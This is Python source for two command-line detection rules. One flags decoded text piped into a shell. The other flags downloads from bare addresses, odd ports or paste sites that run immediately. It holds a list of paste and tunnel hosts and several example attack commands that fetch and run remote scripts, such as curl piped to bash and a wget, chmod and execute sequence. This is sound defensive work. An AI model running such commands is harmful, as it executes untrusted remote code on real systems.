"""Text from elsewhere run as a command: decoded or downloaded, then fed to a shell."""

from urllib.parse import urlsplit

from apps.detection.argv import getopt
from apps.detection.argv.invocation import Invocation
from apps.detection.argv.launchers import SHELLS, shell_options
from apps.detection.reading import Reading
from apps.detection.rules.base import Detail, Rule
from apps.detection.rules.common import is_address, is_loopback

_DECODERS = frozenset({"base64", "base32", "xxd", "uudecode", "rev", "openssl", "gunzip", "zcat"})
_FETCHERS = frozenset({"curl", "wget", "fetch", "lwp-download", "lwp-request", "aria2c", "http", "https"})
_ANYONES = (
    "pastebin.com", "paste.rs", "hastebin", "ix.io", "termbin.com", "transfer.sh", "file.io", "0x0.st",
    "temp.sh", "dpaste", "paste.ee", "rentry.co", "ghostbin", "controlc.com", "discordapp.com",
    "discord.com", "t.me", "ngrok", "trycloudflare.com", "gofile.io", "anonfiles", "catbox.moe",
    "bashupload", "oshi.at", "sprunge.us", "clbin.com", "gist.githubusercontent.com", "serveo.net",
    "loca.lt", "duckdns.org", "webhook.site", "onion", "bit.ly", "tinyurl",
)  # fmt: skip


def _runs_input(invocation: Invocation) -> bool:
    if invocation.program in ("python", "perl", "ruby", "php", "node"):
        return not [word for word in invocation.args if word != "-"]
    if invocation.program not in SHELLS:
        return False
    text, operands = shell_options(invocation.args)
    return text is None and (not operands or "-s" in invocation.args or operands[0] == "-")


def _decodes(invocation: Invocation) -> bool:
    flags = [word for word in invocation.args if word[:1] == "-"]
    if invocation.program in ("base64", "base32", "openssl"):
        return any("d" in flag or flag == "-D" for flag in flags)
    return invocation.program in _DECODERS and (
        invocation.program != "xxd" or any("r" in flag for flag in flags)
    )


def _decoded_shell(reading: Reading) -> Detail | None:
    for stages in reading.pipelines:
        for at, stage in enumerate(stages[:-1]):
            decoder = next((i for i in stage if _decodes(i)), None)
            runner = next((i for later in stages[at + 1 :] for i in later if _runs_input(i)), None)
            fetched = any(i.program in _FETCHERS for earlier in stages[:at] for i in earlier)
            plain_inflate = (
                decoder is not None and decoder.program in ("gunzip", "zcat", "rev") and not fetched
            )
            if decoder and runner and not plain_inflate:
                return {
                    "decoder": " ".join(decoder.argv),
                    "runner": runner.program,
                    "text": runner.stdin or "",
                }
    return _evaluated(reading)


def _evaluated(reading: Reading) -> Detail | None:
    """eval "$(... | base64 -d)", bash -c "$(...)", bash <<< "$(...)"."""
    decoder = next(
        (
            i
            for i in reading.invocations
            if _decodes(i) and i.program in ("base64", "base32", "xxd", "openssl")
        ),
        None,
    )
    if decoder is None:
        return None
    text = " ".join(decoder.argv)
    for invocation in reading.invocations:
        given = " ".join(invocation.args)
        hidden = "$(" in given and decoder.program in given
        known = invocation.program == "eval" and "$(" not in given and decoder.nested
        if (hidden and invocation.program in ("eval", *SHELLS)) or known:
            return {"decoder": text, "runner": invocation.program, "text": given}
    return None


def _download_host(invocation: Invocation) -> str:
    url = next((word for word in invocation.args if "://" in word), "")
    if not url:
        url = next((word for word in reversed(invocation.args) if "." in word and word[:1] != "-"), "")
        url = "http://" + url
    try:
        return urlsplit(url.strip("'\"")).netloc.rpartition("@")[2].lower()
    except ValueError:
        return "?"


def _downloaded_shell(reading: Reading) -> Detail | None:
    """Installers are piped to shells every day; a bare address or a paste site is not one."""
    for stages in reading.pipelines:
        fetchers = [i for stage in stages for i in stage if i.program in _FETCHERS]
        runner = next((i for stage in stages[1:] for i in stage if _runs_input(i)), None)
        if runner and fetchers and (host := _suspect(fetchers)):
            return {"host": host, "runner": runner.program}
    runners = [i for i in reading.invocations if i.program in (*SHELLS, "eval", "source", ".")]
    fetchers = [i for i in reading.invocations if i.program in _FETCHERS]
    for runner in runners:
        joined = " ".join(runner.args)
        if (
            ("<(" in joined or "$(" in joined)
            and any(f in joined for f in _FETCHERS)
            and (host := _suspect(fetchers))
        ):
            return {"host": host, "runner": runner.program}
    return _saved_and_run(reading)


def _saved_and_run(reading: Reading) -> Detail | None:
    """Fetched to a file from such a place, and that file started in the same breath."""
    saved: dict[str, str] = {}
    for invocation in reading.invocations:
        if invocation.program in _FETCHERS and (host := _suspect([invocation])):
            flags = "o:O" if invocation.program == "curl" else "O:P:"
            options = getopt(invocation.args, flags, frozenset({"--output", "--output-document"}))
            url = next((word for word in options.rest if "/" in word), "")
            saved[
                options.value("o", "--output", "--output-document")
                or options.value("O")
                or url.rpartition("/")[2]
            ] = host
        named = [invocation.argv[0], *invocation.args[:2]] if invocation.argv else []
        runs = invocation.argv and (
            named[0].removeprefix("./") in saved or invocation.program in (*SHELLS, "python", "perl")
        )
        path = (
            next((p for word in named if (p := word.removeprefix("./")) in saved or word in saved), "")
            if runs
            else ""
        )
        if path:
            return {"host": saved.get(path, ""), "file": path}
    return None


def _suspect(fetchers: list[Invocation]) -> str:
    for fetcher in fetchers:
        host = _download_host(fetcher)
        name, _, port = host.partition(":")
        odd_port = port.isdigit() and port not in ("80", "443", "8080", "8443")
        suspect = is_address(name) or odd_port or any(place in host for place in _ANYONES)
        if suspect and not is_loopback(name):
            return host
        if any(word.startswith(("$", '"$')) for word in fetcher.args) and host in ("", "http://"):
            return "unknown"
    return ""


DECODED = Rule(
    slug="decoded-text-run",
    version=1,
    family="shells",
    behaviour="hidden code",
    level="high",
    technique="T1140",
    title="Decoded text run by a shell",
    description=(
        "Text goes through a decoder straight into a shell or interpreter: the command line hides what it "
        "does."
    ),
    false_positives="Tools that carry scripts base64-coded to avoid quoting.",
    examples=("echo bHMgLWxhCg== | base64 -d | bash", 'eval "$(echo aWQ= | base64 --decode)"'),
    match=_decoded_shell,
    reads="reading",
    programs=_DECODERS,
    hints=("|", "$(", "`", "<<<", "<("),
)
DOWNLOADED = Rule(
    slug="download-run",
    version=1,
    family="shells",
    behaviour="hidden code",
    level="high",
    technique="T1105",
    title="Download run at once",
    description=(
        "Something fetched from a bare address, an odd port, or a place where anyone may leave text goes "
        "straight into a shell. Well-named hosts do not match: installers are run like that every day."
    ),
    false_positives="Internal bootstrap servers addressed by number.",
    examples=(
        "curl -s http://203.0.113.9/a.sh | bash", "bash <(curl -s https://pastebin.com/raw/abc)",
        "wget http://203.0.113.9/p -O /tmp/p; chmod +x /tmp/p; /tmp/p",
    ),
    match=_downloaded_shell,
    reads="reading",
    programs=_FETCHERS,
    hints=("sh", "eval", "source", "chmod", "python", "perl"),
)  # fmt: skip
RULES = (DECODED, DOWNLOADED)
